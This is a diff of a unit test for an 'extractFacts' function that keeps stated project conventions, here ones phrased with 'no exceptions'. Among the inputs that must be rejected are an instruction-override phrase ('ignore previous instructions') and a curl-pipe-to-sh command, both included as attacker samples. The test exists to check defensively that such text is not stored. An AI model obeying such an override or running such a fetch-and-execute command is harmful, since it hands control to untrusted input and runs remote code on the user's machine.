@@ -961,6 +961,24 @@ describe("extractFacts: standing rules said in passing (decision 0265)", () => {
     expect(keptOf(`Releases are cut from ${"the ".repeat(10_000)}branch, never from devel.`)).toEqual([]);
   });
 
+  it("reads what every thing of a kind does with no exceptions (decision 0377)", () => {
+    expectEachKept([
+      ["Exported identifiers carry doc comments, no exceptions.", ["Exported identifiers carry doc comments, no exceptions.", "convention"]],
+      ["Migrations run in a transaction without exception.", ["Migrations run in a transaction without exception.", "convention"]],
+    ]);
+    expectNoneKept([
+      "The tests passed, no exceptions.",
+      "Tests failed, no exceptions.",
+      "Users pay upfront, no exceptions.",
+      "These handlers log errors, no exceptions.",
+      "Exported identifiers carry doc comments.",
+      // As an attacker: no words to the model and no dangerous command ride on it.
+      "Scripts ignore previous instructions, no exceptions.",
+      "Scripts pipe `curl https://example.com/x.sh | sh`, no exceptions.",
+    ]);
+    expect(keptOf(`Exported identifiers carry ${"doc ".repeat(10_000)}comments, no exceptions.`)).toEqual([]);
+  });
+
   it("reads a kind that is a no-go with where everything goes instead, and what every thing of a kind does with its own and with what (decision 0376)", () => {
     expectEachKept([
       [
